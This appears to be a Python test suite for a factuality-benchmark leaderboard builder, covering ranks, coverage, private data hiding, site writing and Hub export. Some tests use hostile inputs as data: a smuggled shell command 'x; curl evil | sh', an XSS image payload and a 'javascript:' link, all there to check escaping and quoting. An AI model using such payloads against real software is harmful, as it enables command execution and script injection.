"""`factscope leaderboard`: what the site shows, and what must never get into it."""

from __future__ import annotations

import json
import re
import shlex
from hashlib import sha256
from html import unescape
from pathlib import Path

import pytest
import yaml
from huggingface_hub import parse_eval_result_entries
from typer.testing import CliRunner, Result

from factscope.benchmarks import standings
from factscope.benchmarks.leaderboard import (
    HubTask,
    Leaderboard,
    RunRecord,
    eval_results,
    gather,
    responses_board,
    with_published,
    write_site,
)
from factscope.cli import app
from factscope.core import InputError, Outcome, StoreError, UsageError
from factscope.core.records import Verdict
from factscope.report import Table, Title
from tests.benchmarks.factbench.test_disjoint import written as factbench_result
from tests.benchmarks.leaderboard.example_results import RUN, SECRET, entry, result, stored, written
from tests.scoring.two_runs import METHOD, checked


def boards(
    *files: Path, public: tuple[str, ...] = ("open",), totals_only: tuple[str, ...] = ()
) -> tuple[Leaderboard, ...]:
    ids = [f"{name}-{n}/good" for n in range(20) for name in ("seen", SECRET)]
    kept = stored(*ids)
    found, _ = gather(files, [], public=public, totals_only=totals_only, find=lambda run: kept if run == RUN else None)
    return found


def everything(folder: Path) -> str:
    """Return all file names and texts of the site."""
    return "\n".join(f"{path}\n{path.read_text(encoding='utf-8')}" for path in folder.rglob("*") if path.is_file())


def build(*arguments: str | Path) -> Result:
    return CliRunner().invoke(app, ["leaderboard", "build", *map(str, arguments)])


@pytest.fixture
def both(tmp_path: Path) -> Path:
    return written(tmp_path / "both.json", result(good=20, bad=2))


def test_a_row_states_its_coverage_interval_and_range_of_ranks(both: Path) -> None:
    (board,) = boards(both)
    good, bad = board.rows
    assert (good.name, bad.name) == ("good", "bad")
    assert good.coverage == pytest.approx(39 / 40)
    assert good.figures[0].value == pytest.approx((1 + 1 + 0.9 + 0.9) / 4)
    assert good.figures[0].low is not None
    assert [(row.rank.best, row.rank.worst) for row in board.rows] == [(1, 1), (2, 2)]
    assert good.date == "2026-11-02T10:00:00"
    assert "judges=x/one:json+x/two:json" in good.signature
    assert "--model good" in good.command


@pytest.mark.parametrize(
    ("made", "date"),
    [("2026-11-21T20:00:00Z", "2026-11-21T20:00:00+00:00"), ("<b>soon</b>", None), (None, None)],
)
def test_a_row_without_a_stored_run_has_the_date_of_its_file(
    tmp_path: Path, made: str | None, date: str | None
) -> None:
    values = result(good=20) | {"run": "none-that-is-kept", "made": made}
    (board,) = boards(written(tmp_path / "one.json", values))
    assert board.rows[0].date == date


def test_checkers_with_given_predictions_have_the_date_of_their_file(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SOURCE_DATE_EPOCH", "1795291200")
    examples = Path(__file__).parents[3] / "examples"
    words = ["meta", str(examples / "labelled.jsonl"), "--predictions", str(examples / "predictions.jsonl"), "-q"]
    path = tmp_path / "meta.json"
    done = CliRunner().invoke(app, [*words, "--resamples", "50", "-f", "json", "-o", str(path)])
    assert done.exit_code == 0, done.stderr
    board, *_ = boards(path)
    assert board.rows[0].date == "2026-11-21T20:00:00+00:00"
    foreign = json.loads(path.read_text(encoding="utf-8")) | {"dataset": "x; curl evil | sh"}
    board, *_ = boards(written(tmp_path / "foreign.json", foreign))
    command = board.rows[0].command  # safe for a person to paste
    assert shlex.split(command)[:3] == ["factscope", "meta", "x; curl evil | sh"]


def test_no_content_of_a_private_row_is_published(both: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    write_site(boards(both), site)
    shown = everything(site)
    assert SECRET not in shown
    assert "blind (10)" in shown
    assert "x/one, blind" in shown  # totals are shown
    assert "Asked in seen-0/good" in shown
    assert (site / "facts-grounding/examples/10.html").is_file()
    assert not (site / "facts-grounding/examples/11.html").exists()


def test_a_split_may_be_made_public_and_a_file_private(both: Path, tmp_path: Path) -> None:
    write_site(boards(both, public=("open", "blind")), tmp_path / "all")
    assert SECRET in everything(tmp_path / "all")
    write_site(boards(both, totals_only=(str(both),)), tmp_path / "none")
    shown = everything(tmp_path / "none")
    assert "seen-0" not in shown
    assert SECRET not in shown


def test_files_are_hidden_whatever_path_names_them(both: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    common = ["--store", "runs.db", "--totals-only"]
    assert build("both.json", "-o", "site", *common, "./both.json").exit_code == 0
    assert build(entry(tmp_path), "-o", "other", *common, tmp_path / "acme.toml").exit_code == 0
    assert "seen-0" not in everything(tmp_path / "site") + everything(tmp_path / "other")
    done = build("both.json", "-o", "third", *common, "bothh.json")
    assert (done.exit_code, "not one of the given runs" in done.stderr) == (2, True)
    assert not (tmp_path / "third").exists()


def test_a_site_that_cannot_be_put_in_place_leaves_the_old_one(
    both: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    site = tmp_path / "site"
    write_site(boards(both), site)
    before, real = everything(site), Path.rename

    def rename(self: Path, target: Path) -> Path:
        if self.name == "site" and self != site:
            raise OSError(28, "No space left on device")
        return real(self, target)

    monkeypatch.setattr(Path, "rename", rename)
    with pytest.raises(StoreError, match="can't be written: no space left"):
        write_site(boards(both), site)
    assert everything(site) == before


def test_no_line_breaks_between_a_number_and_its_percent_sign(both: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    write_site(boards(both), site)
    pages = [site / "index.html", *site.glob("*/about.html"), *site.glob("*/good.html")]
    shown = unescape("\n".join(page.read_text(encoding="utf-8") for page in pages))
    assert "95\u00a0% interval" in shown
    assert re.findall(r".{0,30}\d %.{0,30}", shown) == []


def test_an_earlier_build_leaves_nothing_behind(both: Path, tmp_path: Path) -> None:
    write_site(boards(both, public=("open", "blind")), tmp_path / "site")
    write_site(boards(both), tmp_path / "site")
    assert SECRET not in everything(tmp_path / "site")
    assert [path.name for path in tmp_path.iterdir() if path.name.startswith(".")] == []


def test_a_result_in_the_folder_of_the_site_is_not_lost(both: Path, tmp_path: Path) -> None:
    site = tmp_path / "site"
    assert build(both, "-o", site).exit_code == 0
    inside = site / "held" / "result.json"
    inside.parent.mkdir()
    inside.write_bytes(both.read_bytes())
    done = build(inside, "-o", site)
    assert (done.exit_code, "held/result.json would be lost" in done.stderr) == (2, True)
    assert inside.is_file()


def test_a_folder_with_something_else_is_left_alone(both: Path, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="something other than"):
        write_site(boards(both), tmp_path)
    assert both.is_file()


def test_a_row_without_coverage_is_refused(tmp_path: Path) -> None:
    values = result(good=20, bad=2)
    for one in values["verdicts"]:
        if one["model"] == "bad":
            one["accurate"] = [None, one["accurate"][1]]
    done = build(written(tmp_path / "a.json", values), "-o", tmp_path / "site", "--store", tmp_path / "runs.db")
    assert done.exit_code == 1
    assert "bad has no coverage" in done.stderr
    assert "good" in everything(tmp_path / "site")
    assert ">bad</a>" not in everything(tmp_path / "site")


def test_outside_text_is_escaped_and_links_are_safe(tmp_path: Path) -> None:
    evil = "<img src=x onerror=alert(1)>\u202e../../up"
    path = written(tmp_path / "a.json", json.loads(json.dumps(result(evil=10)).replace('"evil"', json.dumps(evil))))
    write_site(boards(path), tmp_path / "site")
    shown = everything(tmp_path / "site")
    assert "<img" not in shown
    assert "\u202e" not in shown
    assert {path.parent.name for path in (tmp_path / "site").rglob("img*.html")} == {"facts-grounding"}


def test_pages_ask_for_nothing_and_run_only_our_script(both: Path, tmp_path: Path) -> None:
    write_site(boards(both), tmp_path / "site")
    for path in (tmp_path / "site").rglob("*.html"):
        page = unescape(path.read_text(encoding="utf-8"))
        assert "default-src 'none'" in page
        assert not re.search(r'(?:src|href)="(?:https?:|//)', page)
        for target in re.findall(r'href="([^"#]+)', page):
            assert (path.parent / target).is_file(), f"{path}: {target}"


def test_only_public_examples_go_to_the_hub(both: Path) -> None:
    (board,) = boards(both)
    text = eval_results(board, board.rows[0], HubTask("google/FACTS-grounding-public", "facts", "main")) or ""
    assert text.startswith('- dataset:\n    id: "google/FACTS-grounding-public"\n    task_id: "facts"\n')
    assert '    revision: "main"\n  value: 100.00\n  date: "2026-11-02"\n  notes: "FACTS Grounding' in text
    (read,) = parse_eval_result_entries(yaml.safe_load(text))  # the reader from the Hub's own library
    assert (read.dataset_id, read.task_id, read.value) == ("google/FACTS-grounding-public", "facts", 100.0)
    (hidden,) = boards(both, public=())
    assert eval_results(hidden, hidden.rows[0], HubTask("a/b", "c")) is None


def test_files_for_the_hub_are_written_when_asked_for(both: Path, tmp_path: Path) -> None:
    common: list[str | Path] = [both, "-o", tmp_path / "site", "--store", tmp_path / "runs.db", "--hub"]
    assert build(*common, "a/b:c@main").exit_code == 0
    assert 'task_id: "c"' in (tmp_path / "site/facts-grounding/good.eval_results.yaml").read_text(encoding="utf-8")
    assert build(*common, "a/b").exit_code == 2


def test_a_correct_entry_passes_and_is_shown(tmp_path: Path) -> None:
    path = entry(tmp_path)
    done = CliRunner().invoke(app, ["leaderboard", "check", str(path)])
    assert (done.exit_code, done.stderr) == (0, "")
    assert "acme/a, 0.6944, coverage 0.9750: fine" in done.stdout
    (board,) = boards(path)
    assert (board.rows[0].date, board.rows[0].link) == ("2026-11-01", "https://example.org/a")
    assert "--data mine.csv" in board.rows[0].command


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"coverage": None}, "coverage: field required"),
        ({"coverage": 0.5}, "coverage is 0.5, and 0.9750"),
        ({"score": 0.9}, "score is 0.9, and 0.6944"),
        ({"model": "acme/b"}, "no answers of acme/b"),
        ({"date": "soon"}, "date:"),
        ({"sha256": "0"}, "does not have the stated SHA-256"),
        ({"result": "../acme.json"}, "not beside it"),
        ({"result": "none.json"}, "the result none.json does not exist"),
        ({"link": "javascript:alert(1)"}, "link:"),
        ({"wrong": 1}, "wrong: extra inputs"),
    ],
)
def test_an_incorrect_entry_is_refused(tmp_path: Path, change: dict[str, object], message: str) -> None:
    good = tmp_path / "good"
    good.mkdir()
    done = CliRunner().invoke(app, ["leaderboard", "check", str(entry(tmp_path, **change)), str(entry(good))])
    assert done.exit_code == 1
    assert message in done.stderr
    assert "good/acme.toml" in done.stdout  # the others are still checked


def test_an_entry_whose_result_has_other_models_is_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="other models too"):
        boards(entry(tmp_path, "better"))


def test_files_that_are_not_results_are_refused(tmp_path: Path) -> None:
    with pytest.raises(InputError, match="not a result that"):
        boards(written(tmp_path / "a.json", {"a": 1}))
    (tmp_path / "b.json").write_text("{", encoding="utf-8")
    with pytest.raises(InputError, match="not JSON") as told:
        boards(tmp_path / "b.json")
    assert "the id of a stored run" in told.value.hint
    (tmp_path / "deep.json").write_text("[" * 100_000, encoding="utf-8")
    with pytest.raises(InputError, match="can't be read"):
        boards(tmp_path / "deep.json")
    (tmp_path / "deep.toml").write_text(f"result = {'[' * 100_000}", encoding="utf-8")
    with pytest.raises(InputError, match="not TOML"):
        boards(tmp_path / "deep.toml")
    with pytest.raises(UsageError, match="can't be read"):
        boards(tmp_path / "c.json")


def test_ranks_range_over_rows_that_no_test_distinguishes() -> None:
    found = standings({"a": 0.9, "b": 0.5, "c": 0.5, "d": None}, [("a", "d"), ("b", "d")])
    assert {name: (one.rank, one.tied, one.best, one.worst) for name, one in found.items()} == {
        "a": (1, False, 1, 3),
        "b": (2, True, 1, 3),
        "c": (2, True, 1, 4),
        "d": (4, False, 3, 4),
    }


def test_texts_of_an_example_are_in_the_site_once(tmp_path: Path) -> None:
    """One page has the document and all models' answers, with the judges' labels behind each sentence."""
    kept = stored("seen-4/good", "seen-4/bad")
    (board,), _ = gather(
        [written(tmp_path / "r.json", result(good=20, bad=2))],
        [],
        public=["open"],
        totals_only=(),
        find=lambda run: kept if run == RUN else None,
    )
    write_site([board], tmp_path / "site")
    (page,) = (tmp_path / "site/facts-grounding/examples").glob("*.html")
    shown = page.read_text(encoding="utf-8")
    assert shown.count("An old mole.") == 1
    assert [shown.count(f'<article id="{name}">') for name in ("good", "bad")] == [1, 1]
    assert shown.count("Nothing says so.") == 2
    assert '<a href="#q1">✓</a>1</b>' in shown  # the first judge's excerpt, at its start
    assert "&lt;b&gt;It glows." in shown
    row = (tmp_path / "site/facts-grounding/bad.html").read_text(encoding="utf-8")
    assert 'href="examples/1.html#bad"' in row
    assert "Asked in seen-4/good" in row


def details(board: Leaderboard) -> dict[str, Table]:
    """Return the further tables of a board by title."""
    titles = [block.text for block in board.details if isinstance(block, Title)]
    return dict(zip(titles, (block for block in board.details if isinstance(block, Table)), strict=True))


def test_the_page_has_tables_about_the_judges(tmp_path: Path) -> None:
    values = result(x_one=20, bad=2)
    values["verdicts"][4]["refused"] = True
    values["tags"] = {f"seen-{n}": {"domain": "Legal" if n % 4 else "Medical"} for n in range(0, 20, 2)}
    (board,) = boards(written(tmp_path / "r.json", values))
    tables = details(board)
    assert tables["Judges and their own"].rows[0][:3] == ("x/one", "answers", "x/one")
    assert tables["Agreement of the judges"].rows[0][:4] == ("open", "grounded", "x/one and x/two", "100.0")
    assert tables["Missing verdicts"].rows[0] == ("x/one", "x/two", "open", "1", "10")
    assert tables["Refusals"].rows == (("x/one", "1", "0", "100.0", "100.0"),)
    assert tables["Effect of phase B"].rows[0][0] == "x/one"
    assert tables["By domain"].heads == ("model", "Legal", "Medical")
    assert tables["By domain"].rows[1][1].startswith("0.0\n")
    write_site([board], tmp_path / "site")
    page = (tmp_path / "site/facts-grounding/details.html").read_text(encoding="utf-8")
    for title in tables:
        assert f">{title}</h2>" in page


def test_published_rows_are_marked_and_listed_below_own_rows(tmp_path: Path) -> None:
    values = json.loads(json.dumps(result(good=20)).replace("x/one", "GPT-4o"))
    path, site = written(tmp_path / "r.json", values), tmp_path / "site"
    done = build(path, "-o", site, "--store", tmp_path / "runs.db", "--published")
    assert done.exit_code == 0, done.stderr
    page = unescape((site / "index.html").read_text(encoding="utf-8"))
    own, _, published = page.partition('<tbody class="published">')
    assert ">good</a>" in own
    first = published.partition("</tr>")[2].partition("</tr>")[0]
    assert "Gemini 2.0 Flash Experimental" in first
    assert "FACTS Grounding Table 6 (final)" in first
    assert ">77.4<" in first  # from the same judge, on the open split
    assert published.count('scope="row"') == 9
    done = build(path, "-o", site, "--store", tmp_path / "runs.db")
    assert "published" not in (site / "index.html").read_text(encoding="utf-8").partition("<body>")[2]


def test_published_rows_of_checkers_match_the_level_of_the_table(tmp_path: Path) -> None:
    found, _ = gather([checkers(tmp_path / "a.json")], [], public=(), totals_only=(), find=lambda run: None)
    segments, responses = (with_published(board) for board in found[:2])
    best = max(segments.references, key=lambda row: row.figures[0].value or 0)
    assert (best.name, best.figures[0].value) == ("GPT-4, segments, reference-doc", pytest.approx(0.483))
    assert best.figures[3].value == pytest.approx(0.671)
    assert len(responses.references) == len(segments.references) == 24
    assert with_published(found[2]).references == ()
    alone = [
        {"method": method["method"], "levels": {"response": method["levels"]["response"]}}
        for method in json.loads((tmp_path / "a.json").read_text(encoding="utf-8"))["methods"]
    ]
    (only, *_), _ = gather(
        [checkers(tmp_path / "b.json", methods=alone)], [], public=(), totals_only=(), find=lambda run: None
    )
    assert with_published(only).references == responses.references


def checkers(path: Path, **change: object) -> Path:
    """Write a result of `meta` with two checkers, broken down by domain and kind of error."""
    part = {"n": 4, "n_answered": 4, "coverage": 1.0, "error": {"f1": 0.5, "precision": 0.5, "recall": 0.5}}
    level = part | {
        "by_domain": {"wk": part, "math": part | {"error": {"f1": 0.25}}},
        "by_error_type": {"knowledge": part, "reasoning": part},
    }
    methods = [{"method": name, "levels": {"segment": level, "response": part}} for name in ("one", "two")]
    values = {
        "dataset": "felm", "sha256": "ab", "n_samples": 4, "units": "given", "rule": "unsupported",
        "methods": methods, "resamples": 10, "seed": 0, "factscope": "1",
    }  # fmt: skip
    return written(path, values | change)


def test_results_of_several_checker_files_share_tables(tmp_path: Path) -> None:
    first = checkers(tmp_path / "a.json")
    more = json.loads(first.read_text(encoding="utf-8"))["methods"]
    second = checkers(tmp_path / "b.json", methods=[more[0], more[0] | {"method": "three"}])
    found, notes = gather([first, second], [], public=(), totals_only=(), find=lambda run: None)
    assert [board.title for board in found] == [
        "Checkers on felm",
        "Checkers on felm, responses",
        "Checkers on felm, by domain",
        "Checkers on felm, by kind of error",
    ]
    assert [row.name for row in found[0].rows] == ["one", "three", "two"]
    assert [column.name for column in found[2].columns] == ["wk", "math"]
    assert [figure.value for figure in found[2].rows[0].figures] == [0.5, 0.25]
    assert notes == (f"one is in an earlier file already: left out of {second}.",)


def with_f1(path: Path, scores: dict[str, float | None], *differing: tuple[str, str, float]) -> Path:
    """Write a result of `meta` with these F1 scores and these confirmed differences, second minus first."""
    part = {"n": 50, "n_answered": 50, "coverage": 1.0}
    methods = [{"method": name, "levels": {"segment": part | {"error": {"f1": f1}}}} for name, f1 in scores.items()]
    pairings = [
        {"level": "segment", "first": first, "second": second, "findings": {"f1": "differs"},
         "contrasts": [{"measure": "f1", "value": value}]}
        for first, second, value in differing
    ]  # fmt: skip
    return checkers(path, methods=methods, pairings=pairings)


def ranges(*paths: Path) -> dict[str, tuple[int, int, int]]:
    found, _ = gather(list(paths), [], public=(), totals_only=(), find=lambda run: None)
    return {row.name: (row.rank.rank, row.rank.best, row.rank.worst) for row in found[0].rows}


def test_a_test_in_two_files_counts_once(tmp_path: Path) -> None:
    tested = [("a", "b", -0.3), ("a", "c", -0.6), ("b", "c", -0.3)]
    two = with_f1(tmp_path / "two.json", {"a": 0.9, "b": 0.6}, tested[0])
    three = with_f1(tmp_path / "three.json", {"a": 0.9, "b": 0.6, "c": 0.3}, *tested)
    assert ranges(two, three) == {"a": (1, 1, 1), "b": (2, 2, 2), "c": (3, 3, 3)}


def test_only_tests_of_the_displayed_figures_limit_ranks(tmp_path: Path) -> None:
    two = with_f1(tmp_path / "two.json", {"a": 0.9, "b": 0.6})
    # “a” here is another checker of the same name: its tests don't apply to the one in the first file.
    other = with_f1(tmp_path / "other.json", {"a": 0.2, "c": 0.3}, ("a", "c", 0.1))
    assert ranges(two, other) == {"a": (1, 1, 3), "b": (2, 1, 3), "c": (3, 1, 3)}
    withheld = with_f1(tmp_path / "withheld.json", {"a": 0.9, "b": 0.6, "few": None}, ("a", "few", 0.1))
    assert ranges(withheld) == {"a": (1, 1, 2), "b": (2, 1, 2)}
    # On the units that both answered, the order is reversed.
    opposed = with_f1(tmp_path / "opposed.json", {"a": 0.9, "b": 0.6}, ("a", "b", 0.1))
    assert ranges(opposed) == {"a": (1, 1, 2), "b": (2, 1, 2)}


def test_a_checker_without_a_figure_is_left_out_with_the_reason_in_its_file(tmp_path: Path) -> None:
    path = checkers(tmp_path / "a.json")
    methods = json.loads(path.read_text(encoding="utf-8"))["methods"]
    few = json.loads(json.dumps(methods[1] | {"method": "few"}))
    for level in few["levels"].values():
        level["error"]["f1"], level["remarks"] = None, {"f1": "withheld: only 2 of 9 units have an answer"}
    path = checkers(path, methods=[methods[0], few])
    found, _ = gather([path], [], public=(), totals_only=(), find=lambda run: None)
    assert [row.name for row in found[0].rows] == ["one"]
    done = build(path, "-o", tmp_path / "site", "--store", tmp_path / "runs.db")
    assert done.exit_code == 1
    lost = "few has no F1 on felm: withheld: only 2 of 9 units have an answer. Left out."
    assert lost in " ".join(done.stderr.split())


def test_means_of_stored_responses_cover_only_those_with_the_score() -> None:
    """Less than half of the second response was judged: its score is withheld, so its units are in no mean."""
    full: list[tuple[str, Outcome]] = [("One.", "supported"), ("Two.", "contradicted")]
    little: list[tuple[str, Outcome]] = [("One.", "supported"), *[(f"Lost {k}.", "failed") for k in range(3)]]
    reports = {}
    for name, model, ends in (("a", "m", full), ("b", "m", little), ("c", "lost", little)):
        report = checked(name, ends)
        response = report.response.model_copy(update={"model": model, "prompt": name})
        whole = Verdict(unit_id=name, level="response", outcome="undecided", rule="worst")
        reports[name] = report.model_copy(update={"response": response, "verdicts": (*report.verdicts, whole)})
    run = RunRecord("ab12", "responses x", "2026-11-02T10:00:00", "0.1.0", METHOD, {}, None, reports)
    board = responses_board([run], ())
    (row,) = board.rows
    assert [round(figure.value or 0, 3) for figure in row.figures[:5]] == [0.5, round(1 / 2**0.5, 3), 2, 0, 1]
    assert (row.n, row.coverage) == (1, 0.5)
    assert board.notes == ("lost has no score: nothing in its responses could be judged, or too little. Left out.",)


def test_models_of_one_run_share_a_signature_whatever_their_number_of_responses() -> None:
    reports = {}
    for name, model in (("a", "m"), ("b", "m"), ("c", "n")):
        report = checked(name, [("One.", "supported")])
        response = report.response.model_copy(update={"model": model, "prompt": name})
        whole = Verdict(unit_id=name, level="response", outcome="supported", rule="worst")
        reports[name] = report.model_copy(update={"response": response, "verdicts": (*report.verdicts, whole)})
    run = RunRecord("ab12", "responses x", "2026-11-02T10:00:00", "0.1.0", METHOD, {}, None, reports)
    board = responses_board([run], ())
    assert [row.n for row in board.rows] in ([2, 1], [1, 2])
    assert len({row.signature for row in board.rows}) == 1


def test_a_column_that_counts_only_some_answers_is_remarked_on_with_its_row(tmp_path: Path) -> None:
    path = checkers(tmp_path / "a.json")
    methods = json.loads(path.read_text(encoding="utf-8"))["methods"]
    some = "only the 20 of 27 answers that say how sure they are"
    methods[0]["levels"]["segment"]["remarks"] = {"auroc": some, "brier": "not shown"}
    boards, _ = gather([checkers(path, methods=methods)], [], public=(), totals_only=(), find=lambda run: None)
    notes = {row.name: row.notes for row in boards[0].rows}
    assert notes[methods[0]["method"]][1:] == (f"AUROC: {some}.",)
    assert notes[methods[1]["method"]][1:] == ()


def test_results_on_different_units_have_separate_tables(tmp_path: Path) -> None:
    files = [checkers(tmp_path / "a.json"), checkers(tmp_path / "b.json", units="own")]
    found, _ = gather(files, [], public=(), totals_only=(), find=lambda run: None)
    assert [board.title for board in found].count("Checkers on felm") == 2


def short_answers(path: Path, **change: object) -> Path:
    """Write a result of `bench short-answers`: of twenty questions, one model knows all and one half."""
    ids = [f"q{n}" for n in range(20)]
    answers = [
        {"id": name, "model": model, "question": f"Who is {name}?", "gold": "A", "answer": "B", "grade": grade}
        for model, right in (("all", 20), ("half", 10))
        for n, name in enumerate(ids)
        for grade in ["correct" if n < right else "incorrect"]
    ]
    values = {
        "benchmark": "short-answers", "name": "simpleqa-verified", "grader": "x/grader", "answers": answers,
        "questions": {"sha256": "ab", "ids": ids, "tags": {"q0": {"topic": "Art"}, "q19": {"topic": "Sports"}}},
        "settings": {"penalty": 1.0, "resamples": 100, "seed": 0},
    }  # fmt: skip
    return written(path, values | change)


def test_short_answers_have_a_table_with_every_answer(tmp_path: Path) -> None:
    (board,) = boards(short_answers(tmp_path / "a.json"))
    assert board.title == "SimpleQA Verified"
    assert [(row.name, row.figures[0].value, row.figures[4].value) for row in board.rows] == [
        ("all", 1.0, 1.0),
        ("half", 0.5, 0.0),
    ]
    assert [(row.rank.best, row.rank.worst) for row in board.rows] == [(1, 1), (2, 2)]
    assert list(details(board)) == ["By topic"]
    write_site([board], tmp_path / "site")
    page = (tmp_path / "site/short-answers/half.html").read_text(encoding="utf-8")
    assert "Who is q12?" in page
    assert "Answer: B" in page
    (hidden,) = boards(tmp_path / "a.json", totals_only=(str(tmp_path / "a.json"),))
    write_site([hidden], tmp_path / "hidden")
    assert "Who is q12?" not in everything(tmp_path / "hidden")


def test_a_model_with_few_graded_answers_has_no_row(tmp_path: Path) -> None:
    path = short_answers(tmp_path / "a.json")
    values = json.loads(path.read_text(encoding="utf-8"))
    for number, one in enumerate(answer for answer in values["answers"] if answer["model"] == "all"):
        one["grade"] = "correct" if number < 9 else None
    written(path, values)
    (board,) = boards(path)
    assert [(row.name, *row.rank) for row in board.rows] == [("half", 1, False, 1, 1)]
    done = build(path, "-o", tmp_path / "site", "--store", tmp_path / "runs.db")
    assert done.exit_code == 1
    lost = "all has no F1: withheld: only 9 of 20 questions have a grade. Left out."
    assert lost in " ".join(done.stderr.split())
    assert board.absent == (lost,)


def test_answers_graded_by_another_grader_have_a_separate_table(tmp_path: Path) -> None:
    first = short_answers(tmp_path / "a.json")
    assert len(boards(first, short_answers(tmp_path / "b.json", grader="x/other"))) == 2
    harder = {"penalty": 3.0, "resamples": 100, "seed": 0}
    assert len(boards(first, short_answers(tmp_path / "c.json", settings=harder))) == 2


def test_the_order_states_the_alpha_it_was_computed_at(tmp_path: Path) -> None:
    path = factbench_result(tmp_path / "r.json", "verify", settings={"alpha": 0.3})
    done = CliRunner().invoke(app, ["leaderboard", "build", str(path), "-o", str(tmp_path / "site")])
    assert done.exit_code == 0, done.output
    [about] = [path.read_text("utf-8") for path in (tmp_path / "site").rglob("about.html")]
    assert "0.3; the order by hallucination score at 0.3 holds from 0.00 to 1.00" in about


def test_rows_left_out_by_a_run_are_named_with_their_model(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """X was checked on one row of three, Z on none, and one more row has no model."""
    monkeypatch.setenv("FACTSCOPE_CACHE", str(tmp_path / "cache"))
    monkeypatch.setenv("FACTSCOPE_STORE", str(tmp_path / "runs.db"))
    text = "The lens came in 1858."
    rows = [("X", text), ("X", ""), ("X", None), ("Y", text), ("Y", text), ("Z", ""), (None, "")]
    lines = [
        json.dumps({"id": f"r{n}", "model": model, "response": response, "contexts": [text]})
        for n, (model, response) in enumerate(rows)
    ]
    (tmp_path / "rows.jsonl").write_text("\n".join(lines), encoding="utf-8")
    CliRunner().invoke(app, ["run", str(tmp_path / "rows.jsonl"), "-q"])
    done = build("last", "-o", tmp_path / "site", "--hub", "a/b:c")
    assert done.exit_code == 1, done.stderr  # Z has no score
    lost = (
        "X: 2 rows of its data could not be checked, and no figure counts them.",
        "Z has no score: none of its rows (1) could be checked. Left out.",
        "1 row of the data, of a model that is not known, could not be checked: no figure counts them.",
    )
    folder = tmp_path / "site/factual-precision"
    index, card = (path.read_text(encoding="utf-8") for path in (tmp_path / "site/index.html", folder / "about.html"))
    for line in lost:
        assert line in done.stderr
        assert line in index
        assert line in card
    assert '1<span class="ends">2 left out</span>' in index
    assert "3 and 4 rows left out, run " in card
    page, other = (unescape((folder / f"{name}.html").read_text(encoding="utf-8")) for name in "xy")
    assert "1 counted, 2 left out" in page
    assert lost[0] in page
    assert "left out" not in other
    assert "2 rows left out" in (folder / "x.eval_results.yaml").read_text(encoding="utf-8")


def test_a_row_with_a_withheld_average_has_no_rank_and_says_why(tmp_path: Path) -> None:
    """The first judge has verdicts on 4 of the 10 public answers of `half`, which would lead on those."""
    values = result(good=18, half=20, bad=2)
    for one in values["verdicts"]:
        number = int(one["id"].rpartition("-")[2])
        if one["model"] == "half" and one["split"] == "open" and number > 6:
            one["accurate"] = [None, True]
    path = written(tmp_path / "a.json", values)
    done = build(path, "-o", tmp_path / "site", "--store", tmp_path / "runs.db")
    assert done.exit_code == 1
    reason = "half has no average: x/one has a verdict on 4 of 10 examples of open; a score needs 50\u00a0%. Left out."
    assert reason in done.stderr
    assert reason in unescape((tmp_path / "site/index.html").read_text(encoding="utf-8"))
    (board,) = boards(path)
    assert [(row.name, *row.rank) for row in board.rows] == [("good", 1, False, 1, 1), ("bad", 2, False, 2, 2)]
    assert "half" not in str([row.notes for row in board.rows])
    table = CliRunner().invoke(app, ["bench", "facts-table", str(path), "--resamples", "50"], env={"COLUMNS": "160"})
    words = [line.split()[:2] for line in table.stdout.splitlines()]
    assert [pair for pair in words if pair[-1:] in (["good"], ["bad"], ["half"])] == [
        ["1", "good"],
        ["2", "bad"],
        ["–", "half"],
    ]
    assert "half has no average, and so no rank: x/one has a verdict on 4 of 10" in " ".join(table.stdout.split())


def test_an_entry_with_a_withheld_average_says_why(tmp_path: Path) -> None:
    path = entry(tmp_path)
    values = json.loads((tmp_path / "acme.json").read_text(encoding="utf-8"))
    for one in values["verdicts"]:
        if one["split"] == "open":
            one["accurate"][0] = True if one["id"] == "seen-2" else None
    changed = written(tmp_path / "acme.json", values).read_bytes()
    text = re.sub('sha256 = ".*"', f'sha256 = "{sha256(changed).hexdigest()}"', path.read_text(encoding="utf-8"))
    path.write_text(text, encoding="utf-8")
    done = CliRunner().invoke(app, ["leaderboard", "check", str(path)])
    assert "acme/a has no average: x/one has a verdict on 1 of 10 examples of open" in " ".join(done.stderr.split())
